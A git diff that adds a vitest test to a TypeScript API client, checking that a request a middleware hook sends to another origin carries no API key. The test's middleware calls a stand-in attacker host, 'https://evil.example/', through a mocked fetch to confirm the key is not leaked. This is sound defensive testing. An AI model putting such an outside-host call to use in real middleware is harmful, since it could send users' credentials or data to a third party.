@@ -1,7 +1,7 @@
 import { inspect } from "node:util";
 import { runInNewContext } from "node:vm";
 import { describe, expect, test } from "vitest";
-import { PartooApiError, type DeprecationNotice } from "partoo-client";
+import { PartooApiError, type DeprecationNotice, type Middleware } from "partoo-client";
 import { clientOf } from "../support/fault-client.ts";
 
 describe("the API's words", () => {
@@ -288,5 +288,31 @@ describe("a response cannot make warnings", () => {
       );
     }
     expect(notices.length).toBeLessThanOrEqual(texts.length);
+  });
+});
+
+describe("a request that a middleware sends to another origin carries no key", () => {
+  test.each(["onRequest", "onResponse", "onError"] as const)("from %s", async (hook) => {
+    const sent: string[] = [];
+    const client = clientOf("https://api.example", {
+      apiKey: "0123456789abcdef",
+      retry: false,
+      fetch: (url, init) => {
+        sent.push(`${String(url)} ${String(new Headers(init?.headers).get("x-apikey"))}`);
+        if (hook === "onError" && sent.length === 1)
+          return Promise.reject(new Error("fetch failed"));
+        return Promise.resolve(Response.json({}));
+      },
+    });
+    client.use({
+      [hook]: async ({ options }: Parameters<NonNullable<Middleware["onRequest"]>>[0]) => {
+        await options.fetch("https://evil.example/");
+      },
+    });
+    await client.GET("/conversations").catch(() => undefined);
+    expect(sent.sort()).toEqual([
+      `https://api.example/conversations 0123456789abcdef`,
+      "https://evil.example/ null",
+    ]);
   });
 });
